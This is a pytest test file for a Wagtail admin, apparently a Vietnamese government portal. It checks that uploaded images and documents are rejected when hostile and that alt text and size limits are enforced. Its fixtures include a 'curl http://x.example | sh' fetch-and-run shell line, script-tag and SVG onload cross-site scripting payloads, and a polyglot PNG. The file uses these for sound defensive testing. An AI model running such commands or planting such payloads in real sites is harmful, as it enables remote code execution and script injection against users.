"""Images and documents uploaded in the Wagtail admin: checked by content and size, alt text."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

from chinhquyen.dossiers.tests.factories import PDF

from .conftest import Portals

pytestmark = pytest.mark.django_db

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://x.example | sh\n"


def png(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    PILImage.new("RGB", size, (200, 30, 30)).save(out, format="PNG")
    return out.getvalue()


def _image(client: Client, portals: Portals, name: str, content: bytes, **extra: Any) -> Any:
    data = {
        "title": "Ảnh hội nghị",
        "description": "Đại biểu dự hội nghị tổng kết năm",
        "collection": str(portals.editorial["x"].collection.pk),
        "tags": "",
        "file": SimpleUploadedFile(name, content),
    }
    data.update(extra)
    return client.post(reverse("wagtailimages:add"), data)


def _document(client: Client, portals: Portals, name: str, content: bytes) -> Any:
    data = {
        "title": "Kế hoạch năm",
        "collection": str(portals.editorial["x"].collection.pk),
        "tags": "",
        "file": SimpleUploadedFile(name, content),
    }
    return client.post(reverse("wagtaildocs:add"), data)


def test_a_real_image_with_alt_text_is_accepted(portals: Portals) -> None:
    response = _image(portals.client("writer_x"), portals, "hoi-nghi.png", png())
    assert response.status_code == 302, response.content.decode()[:2000]
    image = get_image_model().objects.get()
    assert image.description == "Đại biểu dự hội nghị tổng kết năm"
    assert image.collection == portals.editorial["x"].collection


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("anh.svg", SVG),
        ("anh.png", SVG),
        ("anh.png", HTML),
        ("trang.html", HTML),
        ("anh.png", SCRIPT),
        ("anh.jpg", png()),
        ("anh.png", png() + b"<script>alert(1)</script>"),
        ("anh.png", png() + b"%PDF-1.4 trailing"),
    ],
)
def test_hostile_images_are_refused(portals: Portals, name: str, content: bytes) -> None:
    response = _image(portals.client("writer_x"), portals, name, content)
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert not get_image_model().objects.exists()


def test_a_polyglot_image_is_refused_by_the_platforms_check(portals: Portals) -> None:
    """Wagtail itself accepts a PNG with HTML after its end: the platform's check refuses it."""
    response = _image(
        portals.client("writer_x"), portals, "anh.png", png() + b"<script>alert(1)</script>"
    )
    assert "đa hình" in " ".join(response.context["form"].errors["file"])


def test_an_image_without_alt_text_is_refused(portals: Portals) -> None:
    response = _image(portals.client("writer_x"), portals, "anh.png", png(), description="  ")
    assert response.status_code == 200
    assert "văn bản thay thế" in response.content.decode()
    assert not get_image_model().objects.exists()


def test_an_oversized_image_is_refused(portals: Portals, settings: Any) -> None:
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 1000
    response = _image(portals.client("writer_x"), portals, "anh.png", png((400, 400)))
    assert response.status_code == 200
    assert not get_image_model().objects.exists()


def test_multiple_upload_applies_the_same_checks(portals: Portals) -> None:
    client = portals.client("writer_x")
    response = client.post(
        reverse("wagtailimages:add_multiple"),
        {
            "files[]": SimpleUploadedFile("anh.png", HTML),
            "collection": str(portals.editorial["x"].collection.pk),
        },
    )
    assert response.status_code == 200
    assert response.json()["success"] is False
    assert not get_image_model().objects.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("trang.html", HTML),
        ("van-ban.pdf", HTML),
        ("hinh.svg", SVG),
        ("chay.sh", SCRIPT),
        ("du-lieu.csv", b"ten,gia tri\n<script>alert(1)</script>,1\n"),
        ("du-lieu.json", b'{"a": "<svg onload=alert(1)>"}'),
    ],
)
def test_hostile_documents_are_refused(portals: Portals, name: str, content: bytes) -> None:
    response = _document(portals.client("writer_x"), portals, name, content)
    assert response.status_code == 200
    assert response.context["form"].errors["file"]
    assert not get_document_model().objects.exists()


def test_a_pdf_and_open_data_are_accepted_and_served_as_attachments(portals: Portals) -> None:
    client = portals.client("writer_x")
    assert _document(client, portals, "ke-hoach.pdf", PDF).status_code == 302
    assert (
        _document(client, portals, "du-lieu.csv", "tên,số\nHoa Lư,12\n".encode()).status_code == 302
    )
    for document in get_document_model().objects.all():
        response = Client().get(document.url)
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
